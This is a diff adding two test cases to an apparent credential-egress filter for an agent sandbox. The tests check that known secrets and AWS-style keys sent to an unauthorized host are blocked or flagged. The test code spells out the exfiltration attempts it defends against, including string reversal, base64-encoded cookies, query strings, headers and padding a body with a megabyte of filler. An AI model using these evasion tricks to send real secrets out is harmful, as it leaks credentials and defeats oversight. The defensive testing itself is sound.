@@ -146,3 +146,32 @@ out(ask(A, '/echo', 'Authorization: AWS4-HMAC-SHA256 Credential=' + s
     # The host may see the signature; the key is nowhere, not even there.
     assert key not in seen["raw"]
     time.sleep(0.1)
+
+
+@case("59", "a known secret going out")
+def known_out(t):
+    value = "known_" + os.urandom(16).hex()
+    v, _ = t.credential("KNOWN", value, [hosts.A])
+    for send in ("ask(B, '/x', 'Content-Type: text/plain', method='POST',"
+                 " body='k=' + R)",
+                 "ask(B, '/x?q=' + R)", "ask(B, '/x', 'X-Note: ' + R)",
+                 "ask(B, '/x', 'Cookie: c=' + base64.b64encode(b'p' +"
+                 " R.encode()).decode())"):
+        s = t.session([v])
+        # The agent has it from elsewhere; here it comes backwards.
+        cut_off(t, f"R = '{value[::-1]}'[::-1]\n{send}\ntime.sleep(30)\n", s)
+        incident(t, s, "known_value_out")
+    assert not t.seen("B"), t.seen("B")
+
+
+@case("59b", "a credential of a known shape going out")
+def shape_out(t):
+    got = t.run("""
+R = 'AKIA' + 'Q3EGRZTBW5NHPJ7K'
+out(ask(B, '/x', 'Content-Type: text/plain', method='POST', body='k=' + R),
+    ask(B, '/x?q=' + R), ask(B, '/x', bearer(R)),
+    ask(B, '/x', method='POST', body='x ' * 1000000 + R))
+""")
+    for a in got:
+        t.one(a, 403, "credential_in_request")
+    assert not t.seen("B"), t.seen("B")
